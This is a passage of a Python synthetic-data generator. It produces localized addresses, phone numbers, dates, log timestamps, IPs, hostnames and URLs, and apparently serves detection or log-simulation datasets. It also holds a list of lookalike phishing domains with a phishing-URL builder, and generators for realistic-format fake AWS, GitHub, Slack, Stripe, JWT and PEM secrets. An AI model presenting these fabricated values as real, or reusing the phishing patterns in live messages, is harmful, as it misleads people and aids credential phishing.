    "en": ["Maple", "Oak", "Cedar", "Elm", "Pine", "Washington", "Lake", "Hill", "Park", "Main", "Sunset",
           "Ridge", "Highland", "Franklin", "Jefferson", "Meadow", "River", "Spring", "Church", "Willow",
           "Chestnut", "Walnut", "Cherry", "Market", "Commerce", "Industrial", "Harbor", "Mill"],
    "en_sfx": ["Street", "St", "Avenue", "Ave", "Road", "Rd", "Boulevard", "Blvd", "Drive", "Dr", "Lane",
               "Court", "Way", "Parkway", "Place", "Terrace"],
    "uk": ["High Street", "Station Road", "Kingsway", "Victoria Road", "Church Lane", "Mill Lane",
           "Queen Street", "Park Road", "Castle Street", "London Road", "Albert Embankment"],
    "de": ["Hauptstraße", "Bahnhofstraße", "Goethestraße", "Schillerstraße", "Lindenallee", "Gartenweg",
           "Friedrichstraße", "Kastanienweg", "Berliner Straße", "Am Markt", "Mozartstraße", "Schulstraße",
           "Rosenweg", "Industriestraße", "Kirchplatz", "Am Lindenhof"],
    "fr": ["rue de la République", "avenue Victor Hugo", "boulevard Voltaire", "rue des Lilas",
           "rue du Faubourg Saint-Antoine", "place Bellecour", "rue Nationale", "avenue Jean Jaurès",
           "rue de la Paix", "chemin des Vignes", "allée des Tilleuls"],
    "es": ["Calle Mayor", "Avenida de la Constitución", "Paseo de Gracia", "Calle de Alcalá",
           "Calle Real", "Gran Vía", "Calle del Sol", "Avenida de América", "Ronda de Valencia"],
    "it": ["Via Roma", "Via Garibaldi", "Corso Vittorio Emanuele II", "Via Dante", "Piazza Duomo",
           "Via Mazzini", "Viale dei Mille", "Via Cavour", "Via XX Settembre"],
    "pt": ["Rua Augusta", "Av. Paulista", "Rua das Flores", "Rua XV de Novembro", "Av. Brasil",
           "Rua da Consolação", "Av. Atlântica", "Rua Sete de Setembro"],
    "nl": ["Keizersgracht", "Dorpsstraat", "Stationsweg", "Kerkstraat", "Molenweg", "Prinsengracht",
           "Oude Gracht", "Laan van Meerdervoort", "Hoofdstraat"],
    "pl": ["ul. Marszałkowska", "ul. Długa", "ul. Piotrkowska", "ul. Floriańska", "al. Jerozolimskie",
           "ul. Świętokrzyska", "ul. Grunwaldzka"],
}
COUNTRY = {
    "en": ["United States", "Germany", "France", "Spain", "Italy", "Brazil", "Netherlands", "Poland",
           "Japan", "United Kingdom", "Canada", "India", "Ireland", "Mexico", "Australia"],
    "de": ["Deutschland", "Österreich", "Schweiz", "Frankreich", "Niederlande", "Polen", "Spanien"],
    "fr": ["France", "Belgique", "Suisse", "Allemagne", "Espagne", "Canada", "Maroc"],
    "es": ["España", "México", "Argentina", "Colombia", "Portugal", "Francia", "Chile"],
    "it": ["Italia", "Svizzera", "Francia", "Germania", "Spagna", "Austria"],
    "pt": ["Brasil", "Portugal", "Argentina", "Estados Unidos", "Paraguai"],
    "nl": ["Nederland", "België", "Duitsland", "Frankrijk", "Verenigd Koninkrijk"],
    "pl": ["Polska", "Niemcy", "Czechy", "Ukraina", "Litwa"],
    "ja": ["日本", "アメリカ", "韓国", "中国", "シンガポール"],
}
GEO = [("Lagos", "Nigeria", "NG"), ("Bucharest", "Romania", "RO"), ("Ho Chi Minh City", "Vietnam", "VN"),
       ("São Paulo", "Brazil", "BR"), ("Moscow", "Russia", "RU"), ("Amsterdam", "Netherlands", "NL"),
       ("Singapore", "Singapore", "SG"), ("Frankfurt am Main", "Germany", "DE"), ("Kyiv", "Ukraine", "UA"),
       ("Istanbul", "Turkey", "TR"), ("Jakarta", "Indonesia", "ID"), ("Shenzhen", "China", "CN"),
       ("Mumbai", "India", "IN"), ("Ashburn", "United States", "US"), ("Dublin", "Ireland", "IE"),
       ("Toronto", "Canada", "CA"), ("Johannesburg", "South Africa", "ZA"), ("Tehran", "Iran", "IR"),
       ("Pyongyang", "North Korea", "KP"), ("Warsaw", "Poland", "PL"), ("Paris", "France", "FR"),
       ("Chicago", "United States", "US"), ("London", "United Kingdom", "GB"), ("Sydney", "Australia", "AU")]
CLOUD_REGIONS = ["us-east-1", "us-west-2", "eu-central-1", "eu-west-1", "ap-southeast-2", "westeurope",
                 "northeurope", "eastus2", "europe-west3", "us-central1", "ap-northeast-1"]
TZ_IDS = ["Europe/Berlin", "America/Chicago", "America/New_York", "Europe/Paris", "Asia/Tokyo",
          "America/Sao_Paulo", "Europe/Madrid", "Europe/Amsterdam", "Europe/Warsaw", "UTC", "Europe/Rome"]
IATA = ["FRA", "JFK", "LHR", "CDG", "MAD", "FCO", "GRU", "AMS", "WAW", "NRT", "ORD", "SEA", "DEN", "ATL"]


class Addr:
    """Address value with pre-rendered variants.  street = street line(s)."""

    def __init__(self, loc, street, unit, city, region, postal, country, cc):
        self.loc, self.street, self.unit, self.city = loc, street, unit, city
        self.region, self.postal, self.country, self.cc = region, postal, country, cc

    def one(self, with_country=False):
        loc = self.loc
        st = self.street + (", " + self.unit if self.unit else "")
        if loc == "uk" and self.unit:
            st = self.unit + ", " + self.street
        if loc == "en":
            s = f"{st}, {self.city}, {self.region} {self.postal}"
        elif loc == "uk":
            s = f"{st}, {self.city} {self.postal}"
        elif loc == "it":
            s = f"{st}, {self.postal} {self.city} ({self.region})"
        elif loc == "pt":
            s = f"{st}, {self.city} - {self.region}, {self.postal}"
        elif loc == "ja":
            s = f"〒{self.postal} {self.city}{self.street}"
        else:
            s = f"{st}, {self.postal} {self.city}"
        if with_country and self.country and loc != "ja":
            s += ", " + self.country
        return s

    def multi(self, with_country=False):
        loc = self.loc
        lines = [self.street]
        if self.unit:
            if loc in ("en", "uk"):
                lines.append(self.unit)
            else:
                lines[0] = self.street + ", " + self.unit
        if loc == "en":
            lines.append(f"{self.city}, {self.region} {self.postal}")
        elif loc == "uk":
            lines.append(self.city)
            lines.append(self.postal)
        elif loc == "it":
            lines.append(f"{self.postal} {self.city} ({self.region})")
        elif loc == "pt":
            lines.append(f"{self.city} - {self.region}")
            lines.append(f"CEP {self.postal}")
        elif loc == "ja":
            return f"〒{self.postal}\n{self.city}{self.street}"
        else:
            lines.append(f"{self.postal} {self.city}")
        if with_country and self.country:
            lines.append(self.country.upper() if loc in ("en", "uk") and chance(random.Random(self.street), 0.3) else self.country)
        return "\n".join(lines)


def address(rng, loc="en"):
    if loc == "en":
        city, st, zp, _ = rng.choice(US_CITIES)
        street = f"{rng.randint(100, 9899)} {rng.choice(STREETS['en'])} {rng.choice(STREETS['en_sfx'])}"
        if chance(rng, 0.15):
            street = f"{rng.randint(10, 999)} {rng.choice(['N', 'S', 'E', 'W'])} {rng.choice(STREETS['en'])} {rng.choice(STREETS['en_sfx'])}"
        unit = rng.choice([None, None, None, f"Suite {rng.randint(100, 950)}", f"Apt {rng.randint(1, 40)}{rng.choice('ABCD')}",
                           f"Unit {rng.randint(1, 30)}", f"#{rng.randint(101, 420)}", f"Floor {rng.randint(2, 30)}"])
        return Addr("en", street, unit, city, st, zp + dg(rng, 2), "USA", "US")
    if loc == "uk":
        city, pcs, _ = rng.choice(UK_CITIES)
        street = f"{rng.randint(1, 240)} {rng.choice(STREETS['uk'])}"
        unit = rng.choice([None, None, f"Flat {rng.randint(1, 24)}", f"Unit {rng.randint(1, 12)}"])
        return Addr("uk", street, unit, city, None, rng.choice(pcs), "United Kingdom", "GB")
    if loc == "ja":
        city, pc, _, area = rng.choice(CITIES["ja"])
        street = f"{area}{rng.randint(1, 4)}-{rng.randint(1, 20)}-{rng.randint(1, 30)}"
        return Addr("ja", street, None, city, None, pc, "日本", "JP")
    c = rng.choice(CITIES[loc])
    city, pc = c[0], c[1]
    region = c[3] if len(c) > 3 else None
    name = rng.choice(STREETS[loc])
    num = rng.randint(1, 180)
    if loc == "de":
        street = f"{name} {num}{rng.choice(['', '', '', 'a', 'b'])}"
        unit = rng.choice([None, None, None, f"{rng.randint(1, 5)}. OG", "Hinterhaus", f"App. {rng.randint(1, 40)}"])
        country = "Deutschland"
        cc = "DE"
    elif loc == "fr":
        street = f"{num}{rng.choice(['', '', '', ' bis'])} {name}"
        unit = rng.choice([None, None, None, f"Bât. {rng.choice('ABCD')}", f"Apt {rng.randint(1, 60)}", f"{rng.randint(1, 7)}e étage"])
        country = "France"
        cc = "FR"
    elif loc == "es":
        street = f"{name} {num}"
        unit = rng.choice([None, f"{rng.randint(1, 9)}.º {rng.choice('ABCD')}", f"{rng.randint(1, 9)}º {rng.randint(1, 4)}ª", "bajo"])
        country = "España"
        cc = "ES"
    elif loc == "it":
        street = f"{name} {num}"
        unit = rng.choice([None, None, f"scala {rng.choice('ABC')}", f"int. {rng.randint(1, 20)}"])
        country = "Italia"
        cc = "IT"
    elif loc == "pt":
        street = f"{name}, {rng.randint(10, 3500)}"
        unit = rng.choice([None, f"apto {rng.randint(11, 190)}", f"sala {rng.randint(101, 1200)}", f"bloco {rng.choice('ABC')}"])
        country = "Brasil"
        cc = "BR"
    elif loc == "nl":
        street = f"{name} {num}{rng.choice(['', '', 'A', '-II', 'hs'])}"
        unit = None
        country = "Nederland"
        cc = "NL"
    else:  # pl
        street = f"{name} {num}" + rng.choice(["", "", f"/{rng.randint(1, 80)}", f" m. {rng.randint(1, 60)}"])
        unit = None
        country = "Polska"
        cc = "PL"
    return Addr(loc, street, unit, city, region, pc, country, cc)


def city_of(rng, loc="en"):
    """A standalone place used as LOCATION: returns text like 'Austin, TX' or 'Lyon'."""
    if loc == "en":
        c, st, _, _ = rng.choice(US_CITIES)
        return rng.choice([c, f"{c}, {st}", c, f"{c}, {US_STATE_NAMES[st]}"])
    if loc == "uk":
        return rng.choice(UK_CITIES)[0]
    return rng.choice(CITIES[loc])[0]


# ---------------------------------------------------------------------------
# Phones
# ---------------------------------------------------------------------------


def _us_line(rng):
    return f"{rng.randint(2, 9)}{dg(rng, 2)}", dg(rng, 4)


def phone(rng, loc="en", mobile=None, area=None):
    if mobile is None:
        mobile = chance(rng, 0.5)
    if loc == "en":
        a = area or rng.choice(US_CITIES)[3]
        ex, ln = _us_line(rng)
        return rng.choice([f"({a}) {ex}-{ln}", f"{a}-{ex}-{ln}", f"{a}.{ex}.{ln}", f"+1 {a} {ex} {ln}",
                           f"+1-{a}-{ex}-{ln}", f"1 ({a}) {ex}-{ln}", f"{a}{ex}{ln}"])
    if loc == "tollfree":
        p = rng.choice(["800", "888", "877", "866", "855"])
        ex, ln = _us_line(rng)
        return rng.choice([f"1-{p}-{ex}-{ln}", f"({p}) {ex}-{ln}", f"+1 {p} {ex} {ln}", f"{p}-{ex}-{ln}"])
    if loc == "uk":
        if mobile:
            n = f"7{rng.randint(400, 999)} {dg(rng, 6)}"
            return rng.choice([f"0{n}", f"+44 {n}"])
        city, _, a = rng.choice(UK_CITIES)
        if len(a) == 2:
            n = f"{a} {dg(rng, 4)} {dg(rng, 4)}"
        else:
            n = f"{a} {dg(rng, 3)} {dg(rng, 4)}"
        return rng.choice([f"0{n}", f"+44 {n}", f"+44 (0){n}"])
    if loc == "de":
        if mobile:
            pre = rng.choice(["151", "152", "160", "170", "171", "176", "179"])
            n = dg(rng, rng.choice([7, 8]))
            return rng.choice([f"0{pre} {n}", f"+49 {pre} {n}", f"0{pre}-{n}", f"+49 ({pre}) {n}"])
        a = rng.choice(CITIES["de"])[2]
        n = dg(rng, rng.randint(6, 8))
        return rng.choice([f"0{a} {n}", f"+49 {a} {n}", f"+49 (0){a} {n[:-2]}-{n[-2:]}", f"0{a}/{n}"])
    if loc == "fr":
        first = rng.choice(["6", "7"]) if mobile else rng.choice(CITIES["fr"])[2]
        rest = " ".join(dg(rng, 2) for _ in range(4))
        return rng.choice([f"0{first} {rest}", f"+33 {first} {rest}", f"0{first}{rest.replace(' ', '')}",
                           f"0{first}.{rest.replace(' ', '.')}"])
    if loc == "es":
        if mobile:
            n = f"6{dg(rng, 2)} {dg(rng, 3)} {dg(rng, 3)}"
        else:
            a = rng.choice(CITIES["es"])[2]
            n = f"{a}{dg(rng, 9 - len(a))}"
            n = f"{n[:3]} {n[3:6]} {n[6:]}"
        return rng.choice([n, f"+34 {n}", f"(+34) {n}"])
    if loc == "it":
        if mobile:
            n = f"3{rng.randint(20, 93)} {dg(rng, 3)} {dg(rng, 4)}"
            return rng.choice([n, f"+39 {n}", n.replace(" ", "")])
        a = rng.choice(CITIES["it"])[2]
        n = dg(rng, 10 - len(a))
        return rng.choice([f"{a} {n}", f"+39 {a} {n}", f"{a}-{n}"])
    if loc == "pt":
        c = rng.choice(CITIES["pt"])
        if mobile:
            n = f"9{dg(rng, 4)}-{dg(rng, 4)}"
        else:
            n = f"{rng.randint(2, 5)}{dg(rng, 3)}-{dg(rng, 4)}"
        return rng.choice([f"({c[2]}) {n}", f"+55 {c[2]} {n}", f"{c[2]} {n}"])
    if loc == "nl":
        if mobile:
            n = dg(rng, 8)
            return rng.choice([f"06-{n}", f"06 {n[:2]} {n[2:5]} {n[5:]}", f"+31 6 {n}", f"+31 (0)6 {n}"])
        a = rng.choice(CITIES["nl"])[2]
        n = dg(rng, 7)
        return rng.choice([f"0{a}-{n}", f"+31 {a} {n[:3]} {n[3:]}", f"0{a} {n[:3]} {n[3:]}"])
    if loc == "pl":
        if mobile:
            n = f"{rng.choice(['5', '6', '7', '8'])}{dg(rng, 2)} {dg(rng, 3)} {dg(rng, 3)}"
            return rng.choice([n, f"+48 {n}", n.replace(" ", "-")])
        a = rng.choice(CITIES["pl"])[2]
        n = f"{a} {dg(rng, 3)} {dg(rng, 2)} {dg(rng, 2)}"
        return rng.choice([n, f"+48 {n}", f"({a}) {n[3:]}"])
    if loc == "ja":
        if mobile:
            n = f"0{rng.choice(['90', '80', '70'])}-{dg(rng, 4)}-{dg(rng, 4)}"
            return rng.choice([n, "+81 " + n[1:]])
        a = rng.choice(CITIES["ja"])[2]
        n = f"{a}-{dg(rng, 4 if len(a) == 2 else 3)}-{dg(rng, 4)}"
        return rng.choice([n, "+81 " + n[1:]])
    return phone(rng, "en")


# ---------------------------------------------------------------------------
# Dates
# ---------------------------------------------------------------------------

MONTHS = {
    "en": "January February March April May June July August September October November December".split(),
    "de": "Januar Februar März April Mai Juni Juli August September Oktober November Dezember".split(),
    "fr": "janvier février mars avril mai juin juillet août septembre octobre novembre décembre".split(),
    "es": "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre".split(),
    "it": "gennaio febbraio marzo aprile maggio giugno luglio agosto settembre ottobre novembre dicembre".split(),
    "pt": "janeiro fevereiro março abril maio junho julho agosto setembro outubro novembro dezembro".split(),
    "nl": "januari februari maart april mei juni juli augustus september oktober november december".split(),
    "pl": "stycznia lutego marca kwietnia maja czerwca lipca sierpnia września października listopada grudnia".split(),
}
WEEKDAYS = {
    "en": "Monday Tuesday Wednesday Thursday Friday Saturday Sunday".split(),
    "de": "Montag Dienstag Mittwoch Donnerstag Freitag Samstag Sonntag".split(),
    "fr": "lundi mardi mercredi jeudi vendredi samedi dimanche".split(),
    "es": "lunes martes miércoles jueves viernes sábado domingo".split(),
    "it": "lunedì martedì mercoledì giovedì venerdì sabato domenica".split(),
    "pt": "segunda-feira terça-feira quarta-feira quinta-feira sexta-feira sábado domingo".split(),
    "nl": "maandag dinsdag woensdag donderdag vrijdag zaterdag zondag".split(),
    "pl": "poniedziałek wtorek środa czwartek piątek sobota niedziela".split(),
    "ja": "月 火 水 木 金 土 日".split(),
}


def rdate(rng, y0=2023, y1=2025):
    start = _dt.date(y0, 1, 1).toordinal()
    end = _dt.date(y1, 12, 31).toordinal()
    return _dt.date.fromordinal(rng.randint(start, end))


def rdob(rng):
    return rdate(rng, 1948, 2005)


def rdt(rng, y0=2023, y1=2025):
    d = rdate(rng, y0, y1)
    return _dt.datetime(d.year, d.month, d.day, rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))


def fdate(rng, d, loc="en", weekday=None, style=None):
    if weekday is None:
        weekday = chance(rng, 0.15)
    m, y, dd = d.month, d.year, d.day
    wd = WEEKDAYS.get(loc, WEEKDAYS["en"])[d.weekday()]
    if loc in ("en", "uk"):
        st = style or rng.choice(["long", "short", "num", "iso", "abbr"] if loc == "en" else ["uk", "uknum", "iso", "abbrd"])
        mn = MONTHS["en"][m - 1]
        s = {"long": f"{mn} {dd}, {y}", "short": f"{mn[:3]} {dd}, {y}", "num": f"{m:02d}/{dd:02d}/{y}",
             "iso": f"{y}-{m:02d}-{dd:02d}", "abbr": f"{m}/{dd}/{y}", "uk": f"{dd} {mn} {y}",
             "uknum": f"{dd:02d}/{m:02d}/{y}", "abbrd": f"{dd} {mn[:3]} {y}"}[st]
        if weekday and st in ("long", "short", "uk", "abbrd"):
            s = f"{wd}, {s}" if st in ("long", "short") or chance(rng, 0.5) else f"{wd} {s}"
        return s
    if loc == "de":
        st = style or rng.choice(["num", "num", "long", "iso"])
        s = {"num": f"{dd:02d}.{m:02d}.{y}", "long": f"{dd}. {MONTHS['de'][m - 1]} {y}", "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st != "iso":
            s = f"{wd}, {s}" if chance(rng, 0.7) else f"{wd}, den {s}"
        return s
    if loc == "fr":
        st = style or rng.choice(["num", "long", "long"])
        s = {"num": f"{dd:02d}/{m:02d}/{y}", "long": f"{'1er' if dd == 1 else dd} {MONTHS['fr'][m - 1]} {y}",
             "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st == "long":
            s = f"{wd} {s}"
        return s
    if loc in ("es", "pt"):
        st = style or rng.choice(["num", "long"])
        s = {"num": f"{dd:02d}/{m:02d}/{y}", "long": f"{dd} de {MONTHS[loc][m - 1]} de {y}",
             "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st == "long":
            s = f"{wd}, {s}"
        return s
    if loc == "it":
        st = style or rng.choice(["num", "long"])
        s = {"num": f"{dd:02d}/{m:02d}/{y}", "long": f"{dd} {MONTHS['it'][m - 1]} {y}", "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st == "long":
            s = f"{wd} {s}"
        return s
    if loc == "nl":
        st = style or rng.choice(["num", "long"])
        s = {"num": f"{dd:02d}-{m:02d}-{y}", "long": f"{dd} {MONTHS['nl'][m - 1]} {y}", "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st == "long":
            s = f"{wd} {s}"
        return s
    if loc == "pl":
        st = style or rng.choice(["num", "long"])
        s = {"num": f"{dd:02d}.{m:02d}.{y}", "long": f"{dd} {MONTHS['pl'][m - 1]} {y}", "iso": f"{y}-{m:02d}-{dd:02d}"}[st]
        if weekday and st == "long":
            s = f"{wd}, {s}"
        return s
    if loc == "ja":
        st = style or rng.choice(["kanji", "slash"])
        s = f"{y}年{m}月{dd}日" if st == "kanji" else f"{y}/{m:02d}/{dd:02d}"
        if weekday and st == "kanji":
            s += f"({wd})"
        return s
    return d.isoformat()


def ftime(rng, h, mi, loc="en", style=None):
    if loc == "en":
        if (style or rng.choice(["12", "12", "24"])) == "12":
            ap = "AM" if h < 12 else "PM"
            hh = h % 12 or 12
            return f"{hh}:{mi:02d} {ap}" if chance(rng, 0.8) else f"{hh}:{mi:02d}{ap.lower()}"
        return f"{h:02d}:{mi:02d}"
    if loc == "uk":
        return rng.choice([f"{h:02d}:{mi:02d}", f"{h % 12 or 12}:{mi:02d}{'am' if h < 12 else 'pm'}"])
    if loc == "de":
        return rng.choice([f"{h:02d}:{mi:02d} Uhr", f"{h:02d}:{mi:02d}", f"{h}.{mi:02d} Uhr"])
    if loc == "fr":
        return rng.choice([f"{h}h{mi:02d}", f"{h:02d}:{mi:02d}", f"{h} h {mi:02d}"])
    if loc == "pt":
        return rng.choice([f"{h}h{mi:02d}", f"{h:02d}:{mi:02d}", f"{h:02d}h{mi:02d}"])
    if loc == "ja":
        return rng.choice([f"{h}時{mi:02d}分", f"{h:02d}:{mi:02d}"])
    return f"{h:02d}:{mi:02d}"


JOINERS = {"en": [" at ", ", ", " "], "uk": [" at ", ", "], "de": [" um ", ", ", " "], "fr": [" à ", ", "],
           "es": [" a las ", ", "], "it": [" alle ", ", "], "pt": [" às ", ", "], "nl": [" ", ", "],
           "pl": [", ", " "], "ja": [" "]}


def fdt(rng, dt, loc="en", weekday=None):
    d = fdate(rng, dt.date() if isinstance(dt, _dt.datetime) else dt, loc, weekday)
    t = ftime(rng, dt.hour, dt.minute, loc)
    j = rng.choice(JOINERS.get(loc, [" "]))
    if loc == "es" and j == " a las " and dt.hour == 1:
        j = " a la "
    if loc == "fr" and chance(rng, 0.2) and j == " à ":
        pass
    return f"{d}{j}{t}"


# Log / machine timestamps (never labelled).
def ts_iso(dt, ms=True, z=True):
    s = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if ms:
        s += f".{dt.microsecond // 1000:03d}"
    return s + ("Z" if z else "+00:00")


def ts_syslog(dt):
    return dt.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1) if dt.day < 10 else dt.strftime("%b %d %H:%M:%S")


def ts_clf(dt):
    return dt.strftime("%d/%b/%Y:%H:%M:%S +0000")


def ts_plain(dt):
    return dt.strftime("%Y-%m-%d %H:%M:%S")


def tick(rng, dt, lo=1, hi=90):
    return dt + _dt.timedelta(seconds=rng.randint(lo, hi), microseconds=rng.randint(0, 999999))


def rfc2822(dt):
    return dt.strftime("%a, %d %b %Y %H:%M:%S +0000")


# ---------------------------------------------------------------------------
# Network values
# ---------------------------------------------------------------------------

PUB_FIRST = [23, 31, 37, 45, 46, 51, 62, 77, 78, 81, 85, 89, 91, 93, 94, 103, 104, 109, 138, 141, 146,
             151, 159, 167, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217]


def ip_priv(rng):
    k = rng.random()
    if k < 0.45:
        return f"10.{rng.randint(0, 254)}.{rng.randint(0, 254)}.{rng.randint(2, 254)}"
    if k < 0.75:
        return f"192.168.{rng.randint(0, 20)}.{rng.randint(2, 254)}"
    return f"172.{rng.randint(16, 31)}.{rng.randint(0, 254)}.{rng.randint(2, 254)}"


def ip_pub(rng):
    k = rng.random()
    if k < 0.2:
        return rng.choice(["203.0.113.", "198.51.100.", "192.0.2."]) + str(rng.randint(2, 254))
    return f"{rng.choice(PUB_FIRST)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def ip6(rng):
    pre = rng.choice(["2001:db8", "2a02:8108", "2600:1700", "2a01:4f8", "2001:67c", "2604:a880", "fd12:3456"])
    groups = [format(rng.randint(0, 0xFFFF), "x") for _ in range(rng.randint(2, 6))]
    if len(groups) < 6 and chance(rng, 0.7):
        return f"{pre}:{':'.join(groups[:2])}::{':'.join(groups[2:]) or format(rng.randint(1, 0xFFFF), 'x')}"
    return f"{pre}:" + ":".join(groups + [format(rng.randint(1, 0xFFFF), "x") for _ in range(6 - len(groups))])


def mac(rng, sep=":"):
    return sep.join(format(rng.randint(0, 255), "02x") for _ in range(6)).upper() if chance(rng, 0.5) else \
        sep.join(format(rng.randint(0, 255), "02x") for _ in range(6))


def hostname(rng, kind=None):
    kind = kind or rng.choice(["ws", "srv", "k8s", "db", "fw", "lap"])
    if kind == "ws":
        return rng.choice(["WS", "DESKTOP-", "PC-", "W10-"]) + rs(rng, rng.randint(5, 7), UPPER + DIG)
    if kind == "lap":
        return rng.choice(["LAP-", "MBP-", "NB"]) + rs(rng, 6, UPPER + DIG)
    if kind == "srv":
        return rng.choice(["app", "web", "api", "auth", "mail", "file", "print", "dc", "jump", "vpn"]) + \
            rng.choice(["-prod-", "-stg-", "", "-dr-"]) + f"{rng.randint(1, 40):02d}"
    if kind == "k8s":
        return f"ip-{rng.randint(10, 10)}-{rng.randint(0, 255)}-{rng.randint(0, 255)}-{rng.randint(1, 254)}.ec2.internal" \
            if chance(rng, 0.3) else f"gke-prod-pool-{hx(rng, 8)}-{rs(rng, 4, LOWER + DIG)}"
    if kind == "db":
        return rng.choice(["pg", "mysql", "mssql", "redis", "mongo"]) + f"-{rng.choice(['prod', 'replica', 'analytics'])}-{rng.randint(1, 9)}"
    return rng.choice(["fw", "edge", "core-sw", "rtr"]) + f"-{rng.choice(['hq', 'dc1', 'dc2', 'br'])}-{rng.randint(1, 4):02d}"


def url(rng, domain, kind=None):
    kind = kind or rng.choice(["portal", "doc", "ticket", "api", "login", "file"])
    if kind == "portal":
        return f"https://{rng.choice(['portal', 'intranet', 'selfservice', 'my', 'support'])}.{domain}/" + \
            rng.choice(["home", "account/security", "tickets/view", "kb/article", "devices", "billing/overview"]) + \
            rng.choice(["", f"?id={rng.randint(1000, 99999)}", f"?ref=email&lang={rng.choice(['en', 'de', 'fr'])}"])
    if kind == "doc":
        return f"https://{rng.choice(['wiki', 'confluence', 'docs', 'kb'])}.{domain}/" + \
            rng.choice(["display/OPS/Runbook+", "spaces/SEC/pages/", "runbooks/", "kb/"]) + \
            rng.choice(["VPN+Troubleshooting", f"{rng.randint(100000, 9999999)}", "incident-response", "password-reset", "onboarding-checklist"])
    if kind == "ticket":
        return f"https://{rng.choice(['jira', 'servicedesk', 'itsm', 'helpdesk'])}.{domain}/" + \
            rng.choice([f"browse/OPS-{rng.randint(100, 9999)}", f"nav_to.do?uri=incident.do?sys_id={hx(rng, 32)}",
                        f"tickets/{rng.randint(10000, 999999)}", f"servicedesk/customer/portal/2/SD-{rng.randint(100, 9999)}"])
    if kind == "api":
        return f"https://api.{domain}/v{rng.randint(1, 3)}/" + rng.choice(
            ["users", "devices/register", "auth/token", "webhooks/events", "orders", f"accounts/{rng.randint(1000, 99999)}/status"])
    if kind == "login":
        return f"https://{rng.choice(['login', 'sso', 'auth', 'id'])}.{domain}/" + rng.choice(
            ["saml2/idp/SSOService", "oauth2/v1/authorize?client_id=" + rs(rng, 20) + "&response_type=code",
             "adfs/ls/", "realms/corp/protocol/openid-connect/auth", "app/sso/saml"])
    return f"https://{rng.choice(['files', 'share', 'cdn', 'downloads'])}.{domain}/" + rng.choice(
        ["s/" + rs(rng, 12), "d/" + hx(rng, 16) + "/report.pdf", "public/agent/installer.msi", "exports/" + rs(rng, 8, LOWER) + ".csv"])


PHISH_DOMAINS = ["m365-secure-login.com", "micros0ft-verify.net", "docusign-review.info", "paypa1-alerts.com",
                 "sharepoint-docs-view.co", "okta-sso-auth.com", "dhl-parcel-track.top", "payroll-update-hr.com",
                 "secure-voicemail365.net", "wetransfer-files.click", "adobe-sign-doc.xyz", "it-helpdesk-reset.com"]


def phish_url(rng, dom=None):
    dom = dom or rng.choice(PHISH_DOMAINS)
    return f"https://{rng.choice(['', 'login.', 'secure.', 'auth.', 'www.'])}{dom}/" + rng.choice(
        [f"owa/auth.php?u={rs(rng, 10, LOWER + DIG)}", f"verify?session={hx(rng, 24)}", "docs/view/invoice.html",
         f"sso/{rs(rng, 8)}?redirect=mailbox", f"track?id={dg(rng, 10)}", "reset-password/index.php"])


def defang(u):
    return u.replace("https://", "hxxps://").replace("http://", "hxxp://").replace(".", "[.]")


# ---------------------------------------------------------------------------
# Secrets
# ---------------------------------------------------------------------------

B32 = UPPER + "234567"


def aws_ak(rng, temp=False):
    return ("ASIA" if temp else rng.choice(["AKIA", "AKIA", "AKIA"])) + rs(rng, 16, B32)


def aws_sk(rng):
    return rs(rng, 40, B64)


def gh_tok(rng):
    k = rng.random()
    if k < 0.55:
        return "ghp_" + rs(rng, 36)
    if k < 0.7:
        return rng.choice(["gho_", "ghs_", "ghu_", "ghr_"]) + rs(rng, 36)
    return "github_pat_" + rs(rng, 22, UPPER + DIG) + "_" + rs(rng, 59)


def slack_tok(rng):
    k = rng.random()
    if k < 0.6:
        return f"xoxb-{dg(rng, 12)}-{dg(rng, 13)}-{rs(rng, 24)}"
    if k < 0.9:
        return f"xoxp-{dg(rng, 12)}-{dg(rng, 12)}-{dg(rng, 13)}-{hx(rng, 32)}"
    return f"xapp-1-A{rs(rng, 10, UPPER + DIG)}-{dg(rng, 13)}-{hx(rng, 64)}"


def stripe_key(rng):
    pre = rng.choice(["sk_live_", "sk_live_", "rk_live_"])
    return pre + rs(rng, rng.choice([24, 99]))


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(rng, claims=None, alg=None):
    alg = alg or rng.choice(["RS256", "RS256", "HS256", "ES256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = rs(rng, rng.choice([8, 20, 43]), B64URL)
    iat = rng.randint(1690000000, 1740000000)
    c = {"sub": rs(rng, 20, LOWER + DIG) if chance(rng, 0.5) else str(rng.randint(100000, 9999999)),
         "iat": iat, "exp": iat + rng.choice([300, 3600, 86400])}
    if claims:
        c.update(claims)
    if chance(rng, 0.5):
        c["iss"] = rng.choice(["https://login.microsoftonline.com/" + str(_uuid(rng)) + "/v2.0",
                               "https://accounts.google.com", "https://auth.internal", "https://sso.example.org/realms/corp"])
    sl = {"RS256": 256, "HS256": 32, "ES256": 64}[alg]
    return ".".join([b64url(json.dumps(hdr, separators=(",", ":")).encode()),
                     b64url(json.dumps(c, separators=(",", ":")).encode()), b64url(rbytes(rng, sl))])


PEM_PREFIX = {
    "RSA PRIVATE KEY": (bytes.fromhex("308204a40201000282010100"), 1190),
    "PRIVATE KEY": (bytes.fromhex("308204be020100300d06092a864886f70d0101010500048204a8"), 1190),
    "EC PRIVATE KEY": (bytes.fromhex("307702010104"), 115),
    "OPENSSH PRIVATE KEY": (b"openssh-key-v1\x00\x00\x00\x00\x04none\x00\x00\x00\x04none\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x33", 360),
    "ENCRYPTED PRIVATE KEY": (bytes.fromhex("308205363060"), 1300),
}


def pem(rng, kind=None, short=False):
    kind = kind or wchoice(rng, [(3, "RSA PRIVATE KEY"), (2, "PRIVATE KEY"), (3, "EC PRIVATE KEY"),
                                 (3, "OPENSSH PRIVATE KEY"), (1, "ENCRYPTED PRIVATE KEY")])
